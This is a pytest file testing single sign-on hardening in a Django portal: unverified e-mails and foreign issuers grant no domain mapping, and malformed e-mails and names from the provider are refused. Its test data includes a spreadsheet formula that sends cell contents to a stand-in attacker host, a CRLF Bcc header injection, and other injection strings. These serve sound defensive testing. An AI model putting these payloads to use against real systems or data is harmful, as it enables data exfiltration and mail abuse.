"""Single sign-on hardening (issue 33, finding 5): a domain mapping needs a verified e-mail from the configured
issuer, and what the provider says about a person (e-mail, names) is validated before it is stored. Full round trips
against the test provider (tests/portal/oidc_provider.py), as in test_sso.py."""

from __future__ import annotations

import logging

import pytest

from portal.models import SsoMapping
from portal.sso.claims import claim_values, profile, valid_email, valid_name
from tests.factories import TeamFactory
from tests.portal.oidc_provider import LocalOIDCProvider
from tests.portal.test_sso import memberships, sign_in, signed_in_user

pytestmark = pytest.mark.django_db

GOOGLE_MALLORY = {
    "sub": "110169484474386276000",
    "email": "mallory@gmail.com",
    "email_verified": False,
    "hd": "research.example.org",
    "given_name": "Mallory",
    "family_name": "M",
}
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def provider(settings):
    with LocalOIDCProvider() as running:
        settings.OIDC_ENABLED = True
        settings.OIDC_OP_ISSUER = running.issuer
        settings.OIDC_RP_CLIENT_ID = running.client_id
        settings.OIDC_RP_CLIENT_SECRET = running.client_secret
        yield running


@pytest.fixture
def speech_leads_by_domain():
    speech = TeamFactory(slug="speech")
    SsoMapping.objects.create(claim="domain", value="research.example.org", grants="lead", team=speech)
    return speech


def test_an_hd_claim_beside_an_unverified_email_grants_no_domain_mapping(client, provider, speech_leads_by_domain):
    """The audit's case: a user became lead of speech with ``hd`` and ``email_verified: false``."""
    provider.claims = dict(GOOGLE_MALLORY)
    sign_in(client, provider)
    mallory = signed_in_user(client)
    assert mallory is not None  # signed in, as herself
    assert memberships(mallory) == set()
    client.logout()
    provider.claims = {**GOOGLE_MALLORY, "email": "mallory@research.example.org", "email_verified": True}
    sign_in(client, provider)
    assert memberships(signed_in_user(client)) == {("speech", "lead", "sso")}  # verified: the mapping applies


def test_domains_count_only_from_the_configured_issuer():
    claims = {"iss": "https://evil.example", "sub": "1", "email": "a@research.example.org", "email_verified": True,
              "hd": "research.example.org"}  # fmt: skip
    assert claim_values(claims, client_id="portal", issuer="https://accounts.google.com").domains == frozenset()
    assert claim_values(claims, client_id="portal", issuer="https://evil.example").domains == {"research.example.org"}
    assert claim_values(claims, client_id="portal", issuer="").domains == frozenset()


def test_an_address_list_is_not_stored_as_the_users_email(client, provider, caplog):
    """``victim@example.com, evil@example.com`` would be mailed to both."""
    provider.claims = {"sub": "u-1", "preferred_username": "eve", "email": "eve@example.org", "email_verified": True}
    sign_in(client, provider)
    eve = signed_in_user(client)
    assert eve.email == "eve@example.org"
    client.logout()
    provider.claims = {**provider.claims, "email": "victim@example.com, evil@example.com"}
    with caplog.at_level(logging.WARNING, logger="portal.sso.services"):
        sign_in(client, provider)
    eve.refresh_from_db()
    assert eve.email == "eve@example.org"  # the last good address stays
    assert "sent a malformed email: not copied" in caplog.text


def test_a_formula_display_name_is_not_stored(client, provider, caplog):
    provider.claims = {"sub": "u-2", "preferred_username": "fred", "given_name": EVIL_NAME, "family_name": "Fox"}
    with caplog.at_level(logging.WARNING, logger="portal.sso.services"):
        sign_in(client, provider)
    fred = signed_in_user(client)
    assert (fred.first_name, fred.last_name) == ("", "Fox")
    assert "malformed first_name" in caplog.text


@pytest.mark.parametrize(
    "address",
    ["victim@example.com, evil@example.com", "a@b.example; c@d.example", "Eve <eve@example.org>", "eve@example.org\r\nBcc: x@y.example",
     "not-an-address", "eve@", "x" * 250 + "@example.org", 42],
)  # fmt: skip
def test_malformed_addresses_are_refused(address):
    assert valid_email(address) is None


@pytest.mark.parametrize(
    "name",
    [EVIL_NAME, "+cmd", "-2+3", "@SUM(A1)", "Ada\x00", "Ada\u202eecalevoL", "Ada\u200b", "x" * 151, "\t=1+1"],
)
def test_malformed_names_are_refused(name):
    assert valid_name(name) is None


def test_good_names_and_addresses_pass_with_whitespace_tidied():
    assert valid_name("  Ada   Lovelace ") == "Ada Lovelace"
    assert valid_name("Zoë O'Brien-Smith") == "Zoë O'Brien-Smith"
    assert valid_email(" ada@example.org ") == "ada@example.org"
    assert profile({"name": "Ada  King Lovelace"}).fields() == {
        "email": "",
        "first_name": "Ada",
        "last_name": "King Lovelace",
    }
